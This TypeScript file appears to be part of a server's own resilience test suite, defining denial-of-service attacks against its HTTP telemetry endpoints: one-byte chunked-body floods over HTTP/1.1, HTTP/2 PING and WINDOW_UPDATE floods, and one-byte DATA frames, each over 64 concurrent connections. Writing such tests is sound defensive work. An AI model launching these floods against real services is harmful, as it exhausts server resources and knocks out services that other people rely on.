import { exportPath, signalTraits } from "../../../src/domain/signal.ts";
import { type Attack, type AttackTarget, hold, openHttp2, openTcp, writeSlowly } from "./attack.ts";

// Pieces that cost more to read and to keep than they hold.

/** Node reads what has come by all of them in one turn of its event loop. */
const connections = 64;
/** The whole of an attack: 2.6 million pieces, whose body is within the size of one request. */
const piecesPerConnection = 40_000;
const piecesPerWrite = 10_000;

/** Chunks of one byte over HTTP/1.1, in a body that never ends. */
export const oneByteChunks: Attack = (target) =>
  sendPieces(
    target,
    `POST ${signalTraits.logs.httpPath} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/x-protobuf\r\n${chunked}`,
    Buffer.from("1\r\nx\r\n"),
  );

/** The same behind requests whose body nobody reads. */
export const unreadChunks: Attack = (target) =>
  sendPieces(target, `GET /livez HTTP/1.1\r\nhost: localhost\r\n${chunked}`, Buffer.from("1\r\nx\r\n"));

/** PING frames over HTTP/2, without any call. */
export const pings: Attack = (target) =>
  sendPieces(target, preface, Buffer.concat([Buffer.of(0, 0, 8, 6, 0, 0, 0, 0, 0), Buffer.alloc(8)]));

/** WINDOW_UPDATE frames of the connection, of which Node tells nobody. */
export const windowUpdates: Attack = (target) =>
  sendPieces(target, preface, Buffer.of(0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1));

/** HTTP/2's preface and an empty SETTINGS frame. */
const preface = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  Buffer.of(0, 0, 0, 4, 0, 0, 0, 0, 0),
]);
const chunked = "transfer-encoding: chunked\r\n\r\n";

async function sendPieces(target: AttackTarget, head: string | Buffer, piece: Buffer): Promise<void> {
  const pieces = Buffer.concat(Array<Buffer>(piecesPerWrite).fill(piece));
  const one = async () => {
    const socket = openTcp(target);
    socket.resume();
    socket.write(head);
    for (let sent = 0; sent < piecesPerConnection; sent += piecesPerWrite) {
      if (!(await writeSlowly(socket, pieces))) break;
    }
    // The system may hold megabytes that the server has not read yet.
    await hold(target, target.holdMs);
    socket.destroy();
  };
  await Promise.all(Array.from({ length: connections }, one));
}

/** DATA frames of one byte over HTTP/2. Node's client makes one of each write. */
export const oneByteFrames: Attack = async (target) => {
  const one = async () => {
    const session = openHttp2(target);
    const stream = session.request({
      ":method": "POST",
      ":path": exportPath("logs"),
      "content-type": "application/grpc",
      te: "trailers",
    });
    stream.on("error", () => {});
    stream.resume();
    stream.write(Buffer.of(0, 0, 0x3f, 0xff, 0xff));
    const piece = Buffer.of(0x78);
    for (let sent = 0; sent < piecesPerConnection / 4 && !stream.destroyed; sent++) {
      if (!(await writeOne(stream, piece))) break;
    }
    session.destroy();
  };
  await Promise.all(Array.from({ length: connections }, one));
};

function writeOne(stream: NodeJS.WritableStream, piece: Uint8Array): Promise<boolean> {
  return new Promise((resolve) => {
    const close = () => resolve(false);
    stream.once("close", close);
    stream.write(piece, (error) => {
      stream.off("close", close);
      resolve(!error);
    });
  });
}
